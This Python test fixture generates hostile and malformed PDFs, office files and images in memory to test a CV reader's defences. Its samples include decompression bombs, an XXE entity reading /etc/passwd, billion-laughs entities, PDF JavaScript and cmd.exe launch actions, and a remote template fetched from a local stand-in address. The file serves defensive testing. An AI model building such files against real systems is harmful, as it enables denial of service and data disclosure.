"""Files made to hurt a reader, or old and broken enough to do so by accident; each by a few lines of ours.

`ALL` maps an id (P01-P48 PDFs, D01-D12 office files, I01-I06 pictures) to a `Hostile`: how to make it, and how it may
end: with words (`READ`), or unread for one of these reasons. Nothing is ever written to disk.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from app.reading.unreadable import Why
from tests.reading.make import docx_of, odt_of, zip_of

READ = "read"
BOMB = frozenset({Why.TOO_LARGE, Why.TIMED_OUT, Why.TOO_LONG, Why.DAMAGED, Why.NO_TEXT})
BROKEN = frozenset({Why.DAMAGED, Why.NO_TEXT})

WORDS = "Coordinatrice de projet associatif a Casablanca depuis 2019"


@dataclass(frozen=True)
class Hostile:
    """A file: what it tries, its name, its bytes on demand, the ends it may come to."""

    what: str
    name: str
    make: Callable[[], bytes]
    ends: frozenset[str]


def pdf(objects: Mapping[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects with an honest cross-reference table; object 1 is the root."""
    file, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(file)
        file += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(objects) + 1
    rows = (b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 00000 f \n" for n in range(1, size))
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, b"".join(rows))
    return file + table + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, len(file))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
RESOURCES = b"<</Font<</F 5 0 R>>>>"


def one_page(
    content: bytes,
    *,
    entries: bytes = b"",
    resources: bytes = RESOURCES,
    page: bytes = b"",
    catalog: bytes = b"",
    **more: bytes,
) -> bytes:
    """One page; `more` holds further objects as `o6=...`."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources %s%s>>" % (resources, page),
        4: stream(content, entries),
        5: FONT,
    }
    objects.update({int(name[1:]): body for name, body in more.items()})
    return pdf(objects)


def shown(text: str = WORDS) -> bytes:
    return b"BT /F 12 Tf 72 700 Td (%s) Tj ET " % text.encode("latin-1")


def deflated(unit: bytes, times: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(unit) for _ in range(times)), packer.flush()])


FLATE = b"/Filter/FlateDecode"


def _double_flate() -> bytes:
    return one_page(zlib.compress(deflated(b" " * (1 << 20), 1000), 9), entries=b"/Filter[/FlateDecode/FlateDecode]")


def _nested_forms(deep: int, wide: int) -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R>>/Font<</F 5 0 R>>>>"
    forms = {
        f"o{6 + level}": stream(b"/X Do " * wide if level < deep - 1 else shown("lol"), form % (7 + level))
        for level in range(deep)
    }
    return one_page(b"/X Do", resources=b"<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>", **forms)


def _self_form() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>"
    return one_page(
        b"/X Do", resources=b"<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>", o6=stream(shown() + b"/X Do", form)
    )


def _page_tree_cycle() -> bytes:
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 99>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources %s>>" % RESOURCES,
            4: stream(shown()),
            5: FONT,
        }
    )


def _many_pages(count: int) -> bytes:
    first = 10
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources %s>>" % RESOURCES
    kids = b" ".join(b"%d 0 R" % (first + n) for n in range(count))
    head = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
        4: stream(shown()),
        5: FONT,
    }
    return pdf({**head, **dict.fromkeys(range(first, first + count), page)})


def _deep_page_tree(depth: int) -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    objects |= {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, depth + 2)}
    last = depth + 2
    objects[last] = b"<</Type/Page/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<</Font<</F %d 0 R>>>>>>" % (
        last + 1,
        last + 2,
    )
    objects[last + 1], objects[last + 2] = stream(shown()), FONT
    return pdf(objects)


def _scattered_glyphs(count: int) -> bytes:
    chance = random.Random(7)
    placed = (b"1 0 0 1 %d %d Tm (a) Tj" % (chance.randrange(595), chance.randrange(842)) for _ in range(count))
    return one_page(zlib.compress(b"BT /F 9 Tf " + b"\n".join(placed) + b" ET"), entries=FLATE)


def _boxes_of_text(count: int) -> bytes:
    placed = (
        b"BT /F 4 Tf %d %d Td (word here) Tj ET" % (13 * (n % 45), 840 - 5 * (n // 45) % 840) for n in range(count)
    )
    return one_page(zlib.compress(b"\n".join(placed)), entries=FLATE)


def _composite_font(to_unicode: bytes, widths: bytes = b"", encoding: bytes = b"/Identity-H") -> bytes:
    return one_page(
        b"BT /F 12 Tf 72 700 Td <00410042> Tj ET",
        o5=b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding%s/DescendantFonts[7 0 R]/ToUnicode 8 0 R>>" % encoding,
        o7=b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
        b"/Supplement 0>>/FontDescriptor 9 0 R%s>>" % widths,
        o8=stream(to_unicode),
        o9=b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 1000 1000]/Ascent 800/Descent -200>>",
    )


def _map(ranges: bytes, count: int = 1) -> bytes:
    return (
        b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap/CMapName/X def 1 begincodespacerange<0000><FFFF>"
        b"endcodespacerange %d beginbfrange %s endbfrange endcmap end end" % (count, ranges)
    )


def _xref_loop() -> bytes:
    honest = one_page(shown())
    return honest.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % honest.find(b"xref\n0"))


def _two_xrefs_in_a_ring() -> bytes:
    honest = one_page(shown())
    at = honest.find(b"xref\n0")
    second = len(honest) + 1
    ring = honest.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % (second + len(b"/Prev 00000")))
    return ring + b"\nxref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (at, len(ring) + 1)


def _object_stream(count: int) -> bytes:
    return one_page(shown(), o6=stream(b"7 0 <<>>", b"/Type/ObjStm/N %d/First 4" % count))


def _reference_loop() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"3 0 R", 3: b"2 0 R"})


def _ascii85(count: int) -> bytes:
    return one_page(b"z" * count + b"~>", entries=b"/Filter/ASCII85Decode")


def _encrypted(user: str, revision: int) -> bytes:
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(one_page(shown()))) as document:
        document.save(out, encryption=pikepdf.Encryption(user=user, owner="owner", R=revision, aes=revision >= 4))
    return out.getvalue()


def _action(body: bytes) -> bytes:
    return one_page(shown(), catalog=b"/OpenAction 6 0 R", o6=b"<</Type/Action%s>>" % body)


def _embedded_program() -> bytes:
    return one_page(
        shown(),
        catalog=b"/Names<</EmbeddedFiles<</Names[(cv.exe) 6 0 R]>>>>",
        o6=b"<</Type/Filespec/F(cv.exe)/EF<</F 7 0 R>>>>",
        o7=stream(b"MZ" + bytes(400), b"/Type/EmbeddedFile"),
    )


def _page_of_one_image(width: int, height: int, data: bytes, entries: bytes) -> bytes:
    image = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray%s" % (width, height, entries)
    return one_page(b"q 595 0 0 842 0 0 cm /I Do Q", resources=b"<</XObject<</I 6 0 R>>>>", o6=stream(data, image))


def _shadow_update() -> bytes:
    """An incremental update replaces the content: what a viewer shows is the newer text."""
    honest = one_page(shown("Ancien texte du document"))
    place = len(honest) + 1
    newer = b"\n4 0 obj\n%s\nendobj\n" % stream(shown())
    at = len(honest) + len(newer)
    return (
        honest
        + newer
        + b"xref\n4 1\n%010d 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
        % (place, honest.find(b"xref\n0"), at)
    )


def _annotation_only() -> bytes:
    note = (
        b"<</Type/Annot/Subtype/FreeText/Rect[72 600 520 640]/Contents(%s)/DA(/F 12 Tf)/AP<</N 7 0 R>>>>"
        % WORDS.encode()
    )
    look = b"/Type/XObject/Subtype/Form/BBox[0 0 448 40]/Resources<</Font<</F 5 0 R>>>>"
    return one_page(
        b"", page=b"/Annots[6 0 R]", o6=note, o7=stream(b"BT /F 12 Tf 4 12 Td (%s) Tj ET" % WORDS.encode(), look)
    )


def _pdf_and_zip() -> bytes:
    return one_page(shown()) + zip_of({"evil.txt": "zip"})


def _xfa() -> bytes:
    return one_page(shown(), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>", o6=stream(b"<xdp:xdp><template/></xdp:xdp>"))


_OF_PDF = {
    "P01": ("2 GB of blanks in 2 MB", lambda: one_page(deflated(b" " * (1 << 20), 2000), entries=FLATE), BOMB),
    "P02": ("1 GB behind two Flates", _double_flate, BOMB),
    "P03": ("a form that draws itself", _self_form, BOMB | {READ}),
    "P04": ("ten forms of ten forms, ten deep", lambda: _nested_forms(10, 10), BOMB | {READ}),
    "P05": ("a page tree that holds itself", _page_tree_cycle, BROKEN | {READ}),
    "P06": ("200,000 arrays in each other, in the content", lambda: one_page(shown() + b"[" * 200_000 + b"]" * 200_000), BOMB | {READ}),
    "P07": ("100,000 arrays in each other, in the file", lambda: one_page(shown(), page=b"/X 6 0 R", o6=b"[" * 100_000 + b"]" * 100_000), BOMB | {READ}),
    "P08": ("20,000 pages", lambda: _many_pages(20_000), BOMB),
    "P09": ("60,000 scattered glyphs", lambda: _scattered_glyphs(60_000), BOMB | {READ}),
    "P10": ("20,000 pieces of text on a page", lambda: _boxes_of_text(20_000), BOMB | {READ}),
    "P11": ("a ToUnicode range of 4 milliards", lambda: _composite_font(_map(b"<00000000><FFFFFFFF><0041>")), BOMB | {READ}),
    "P12": ("widths for 2 milliards of glyphs", lambda: _composite_font(_map(b"<0041><0042><0041>"), b"/W[0 2000000000 500]"), BOMB | {READ}),
    "P13": ("a CMap by the path of a pickle", lambda: _composite_font(_map(b"<0041><0042><0041>"), encoding=b"/#2ftmp#2fevil"), BOMB | {READ}),
    "P14": ("a cross-reference table before itself", _xref_loop, BROKEN | {READ}),
    "P15": ("two cross-reference tables in a ring", _two_xrefs_in_a_ring, BROKEN | {READ}),
    "P16": ("a table for 2 milliards of objects", lambda: one_page(shown()).replace(b"xref\n0 6", b"xref\n0 2000000000"), BROKEN | {READ}),
    "P17": ("an object stream of 2 milliards", lambda: _object_stream(2_000_000_000), BROKEN | {READ}),
    "P18": ("a stream as long as itself", lambda: one_page(shown()).replace(b"/Length %d>>" % len(shown()), b"/Length 4 0 R>>"), BROKEN | {READ}),
    "P19": ("references in a ring", _reference_loop, BROKEN | {Why.TIMED_OUT}),
    "P20": ("a predictor of 2 milliards of columns", lambda: one_page(zlib.compress(b"\x02" + b"abc" * 100), entries=FLATE + b"/DecodeParms<</Predictor 12/Columns 2000000000>>"), BOMB),
    "P21": ("a flood by run length", lambda: one_page(b"\x81 " * 1_000_000, entries=b"/Filter/RunLengthDecode"), BOMB),
    "P22": ("a flood by LZW", lambda: one_page(random.Random(3).randbytes(200_000), entries=b"/Filter/LZWDecode"), BOMB),
    "P23": ("a flood by ASCII85", lambda: _ascii85(4_000_000), BOMB),
    "P24": ("an inline image without an end", lambda: one_page(shown() + b"BI /W 10 /H 10 ID " + b"\xaa" * 500_000), BOMB | {READ}),
    "P25": ("a string without an end", lambda: one_page(b"BT /F 12 Tf (never ends " + b"(" * 300_000), BOMB),
    "P26": ("50 million saved states", lambda: one_page(deflated(b"q " * (1 << 19), 95), entries=FLATE), BOMB),
    "P27": ("cut in the middle", lambda: one_page(shown())[:420], BROKEN | {READ}),
    "P28": ("nothing at all", lambda: b"", frozenset({Why.DAMAGED})),
    "P29": ("a header alone", lambda: b"%PDF-1.7\n", BROKEN),
    "P30": ("a comment of 20 MB", lambda: b"%PDF-1.7\n%" + b"x" * 20_000_000 + b"\n" + one_page(shown())[9:], BOMB | {READ}),
    "P31": ("12 MB of « obj »", lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 1_500_000, BOMB),
    "P32": ("50,000 content streams", lambda: one_page(shown()).replace(b"/Contents 4 0 R", b"/Contents[" + b"4 0 R " * 50_000 + b"]"), BOMB | {READ}),
    "P33": ("a line of 2 million letters", lambda: one_page(zlib.compress(shown("a" * 2_000_000)), entries=FLATE), BOMB | {READ}),
    "P34": ("a script when opened", lambda: _action(b"/S/JavaScript/JS(app.alert\\(1\\))"), frozenset({READ})),
    "P35": ("a web page and a PDF at once", lambda: b"<html><script>alert(1)</script>\n" + one_page(shown()), BROKEN | {READ}),
    "P36": ("text nobody was to see", lambda: one_page(shown() + b"1 g " + shown("plaidoyer droits humains") + b"0 g BT 3 Tr /F 12 Tf 72 600 Td (prison) Tj ET"), frozenset({READ})),
    "P37": ("a password to open", lambda: _encrypted("secret", 4), frozenset({Why.ENCRYPTED})),
    "P38": ("an owner's password only", lambda: _encrypted("", 4), frozenset({READ})),
    "P39": ("AES-256, an owner's password only", lambda: _encrypted("", 6), frozenset({READ})),
    "P40": ("starts a program, asks an address", lambda: _action(b"/S/Launch/F(cmd.exe)/Next<</S/URI/URI(http://127.0.0.1:9/)>>"), frozenset({READ})),
    "P41": ("a program inside", _embedded_program, frozenset({READ})),
    "P42": ("an XFA form", _xfa, frozenset({READ})),
    "P43": ("a JPEG 2000 that is none", lambda: _page_of_one_image(100, 100, b"\xff\x4f\xff\x51" + bytes(64), b"/Filter/JPXDecode"), BROKEN),
    "P44": ("a portfolio", lambda: one_page(shown(), catalog=b"/Collection<</View/T>>"), frozenset({READ})),
    "P45": ("newer content over the old", _shadow_update, frozenset({READ})),
    "P46": ("text in a note only", _annotation_only, frozenset({READ})),
    "P47": ("a PDF and a ZIP at once", _pdf_and_zip, frozenset({READ})),
    "P48": ("an image of 60,000 by 60,000", lambda: _page_of_one_image(60_000, 60_000, deflated(b"\xff" * 750_000, 600), b"/BitsPerComponent 1" + FLATE), BOMB),
    "P49": ("a page tree 3,000 deep", lambda: _deep_page_tree(3_000), BROKEN | {READ}),
    "P50": ("a page of 200,000 points", lambda: one_page(shown()).replace(b"[0 0 595 842]", b"[0 0 200000 200000]"), BOMB | {READ}),
    "P51": ("a page of no size", lambda: one_page(shown()).replace(b"[0 0 595 842]", b"[0 0 0 0]"), BROKEN | {READ}),
    "P52": ("a million backslashes", lambda: one_page(b"BT /F 12 Tf (" + b"\\" * 1_000_001 + b") Tj ET"), BOMB | {READ}),
}  # fmt: skip


def _docx(body: str, *, parts: Mapping[str, bytes | str] | None = None) -> bytes:
    return docx_of(body, parts=parts)


def _docx_with(main: str | bytes) -> bytes:
    return docx_of("", parts={"word/document.xml": main})


_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _paragraph(text: str = WORDS) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _bomb_docx() -> bytes:
    return docx_of(_paragraph(), parts={"word/media/image1.bmp": bytes(300_000_000)})


def _lying_docx() -> bytes:
    """A part that says it is small and unpacks to 200 MB."""
    honest = docx_of("", parts={"word/document.xml": b"<w:document>" + b" " * 200_000_000 + b"</w:document>"})
    size = struct.pack("<I", 200_000_000 + 27)
    for real in {size, struct.pack("<I", 200_000_000 + len(b"<w:document></w:document>"))}:
        honest = honest.replace(real, struct.pack("<I", 1000))
    return honest


def _overlapping_zip() -> bytes:
    """Two names for the same bytes: the central directory points twice at one entry."""
    honest = zip_of({"cv.txt": "x" * 1000})
    at = honest.find(b"PK\x01\x02")
    end = honest.find(b"PK\x05\x06")
    entry = honest[at:end]
    tail = bytearray(honest[end:])
    struct.pack_into("<HHII", tail, 8, 2, 2, 2 * len(entry), at)
    return honest[:end] + entry.replace(b"cv.txt", b"cw.txt") + bytes(tail)


def _quine_like() -> bytes:
    inner = b""
    for _ in range(8):
        inner = zip_of({f"r{copy}.zip": inner or b"x" for copy in range(3)})
    return inner


def _odt_twin() -> bytes:
    return odt_of(f"<text:p>{WORDS}</text:p>" * 60_000)


_OF_OFFICE = {
    "D01": ("300 MB in 300 kB", "cv.docx", _bomb_docx, frozenset({Why.TOO_LARGE})),
    "D02": ("archives in archives", "cv.zip", _quine_like, frozenset({Why.UNKNOWN_FORMAT})),
    "D03": ("entries that overlap", "cv.zip", _overlapping_zip, frozenset({Why.DAMAGED})),
    "D04": ("an entity that is a file", "cv.docx", lambda: _docx_with(f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {_WORD}><w:body>{_paragraph("&x;")}</w:body></w:document>'), frozenset({Why.DAMAGED})),
    "D05": ("a milliard of laughs", "cv.docx", lambda: _docx_with("<!DOCTYPE d [<!ENTITY a '" + "ha" * 100 + "'>" + "".join(f"<!ENTITY {n} '{('&' + p + ';') * 10}'>" for p, n in zip("abcdefgh", "bcdefghi", strict=True)) + f"]><w:document {_WORD}><w:body>{_paragraph('&i;')}</w:body></w:document>"), frozenset({Why.DAMAGED})),
    "D06": ("a template far away", "cv.docx", lambda: _docx(_paragraph(), parts={"word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'}), frozenset({READ})),
    "D07": ("macros under another name", "cv.docx", lambda: _docx(_paragraph(), parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}), frozenset({READ})),
    "D08": ("a million paragraphs", "cv.docx", lambda: _docx(_paragraph("a") * 1_000_000), BOMB),
    "D09": ("100,000 elements in each other", "cv.docx", lambda: _docx("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), frozenset({Why.DAMAGED})),
    "D10": ("parts that are missing", "cv.docx", lambda: zip_of({"[Content_Types].xml": "<Types>wordprocessingml</Types>"}), frozenset({Why.DAMAGED})),
    "D11": ("an object inside RTF, called .doc", "cv.doc", lambda: rb"{\rtf1\ansi " + WORDS.encode() + rb"{\object\objemb{\*\objdata " + b"d0cf11e0" * 50_000 + b"}}}", frozenset({READ})),
    "D12": ("60,000 paragraphs of OpenDocument", "cv.odt", _odt_twin, BOMB),
    "D13": ("a part that lies about its size", "cv.docx", _lying_docx, BOMB),
    "D14": ("a program called .pdf", "cv.pdf", lambda: b"MZ\x90\x00" + bytes(2000), frozenset({Why.UNKNOWN_FORMAT})),
    "D15": ("RTF with 200,000 open groups", "cv.rtf", lambda: rb"{\rtf1 " + b"{" * 200_000 + WORDS.encode(), BOMB | {READ}),
}  # fmt: skip


def _png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _jpeg(**save: object) -> bytes:
    import io

    from PIL import Image, ImageDraw

    image = Image.new("RGB", (900, 500), "white")
    ImageDraw.Draw(image).text((60, 200), WORDS, fill="black", font_size=24)
    mode = str(save.pop("mode", "RGB"))
    out = io.BytesIO()
    image.convert(mode).save(out, "JPEG", **save)  # type: ignore[arg-type]
    return out.getvalue()


def _turned_with_place() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return _jpeg(exif=exif)


def _tiff_ring() -> bytes:
    """A TIFF whose next page is itself."""
    entries = b"".join(
        struct.pack("<HHII", tag, 3, 1, value)
        for tag, value in ((256, 8), (257, 8), (258, 8), (259, 1), (262, 1), (273, 200), (278, 8), (279, 64))
    )
    return (b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 8) + entries + struct.pack("<I", 8)).ljust(
        200, b"\0"
    ) + b"\xff" * 64


PICTURE = frozenset({Why.NO_TEXT, READ})

_OF_PICTURES = {
    "I01": ("50,000 by 50,000", "cv.png", lambda: _png(50_000, 50_000, deflated(bytes(6_251 * 100), 500)), frozenset({Why.TOO_LARGE})),
    "I02": ("an animation", "cv.gif", lambda: b"GIF89a" + struct.pack("<HHBBB", 30_000, 30_000, 0, 0, 0) + b"\x21\xf9\x04\0\0\0\0\0" * 1000, frozenset({Why.DAMAGED, Why.TOO_LARGE})),
    "I03": ("a JPEG cut short", "cv.jpg", lambda: _jpeg()[:4000], BROKEN | {READ}),
    "I04": ("CMYK with a false profile", "cv.jpg", lambda: _jpeg(mode="CMYK", icc_profile=b"\xff" * 3000), PICTURE),
    "I05": ("turned by its EXIF, with the place", "cv.jpg", _turned_with_place, PICTURE),
    "I06": ("drawing that is a program", "cv.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><text>CV</text></svg>", frozenset({Why.UNKNOWN_FORMAT})),
    "I07": ("a HEIC that is none", "cv.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(500), BROKEN),
    "I08": ("pages in a ring", "cv.tiff", _tiff_ring, BROKEN | {READ}),
    "I09": ("a WebP that is none", "cv.webp", lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8L" + bytes(300), BROKEN),
}  # fmt: skip


def _all() -> dict[str, Hostile]:
    found = {key: Hostile(what, "cv.pdf", make, frozenset(ends)) for key, (what, make, ends) in _OF_PDF.items()}
    for group in (_OF_OFFICE, _OF_PICTURES):
        found |= {key: Hostile(what, name, make, frozenset(ends)) for key, (what, name, make, ends) in group.items()}
    return found


ALL = _all()
# These cost seconds each, as they mean to; the full sweep runs them.
SLOW = frozenset(
    [
        "P01",
        "P04",
        "P09",
        "P10",
        "P19",
        "P21",
        "P23",
        "P30",
        "P31",
        "P32",
        "P33",
        "P43",
        "P48",
        "D12",
        "I04",
        "I05",
        "I08",
    ]
)
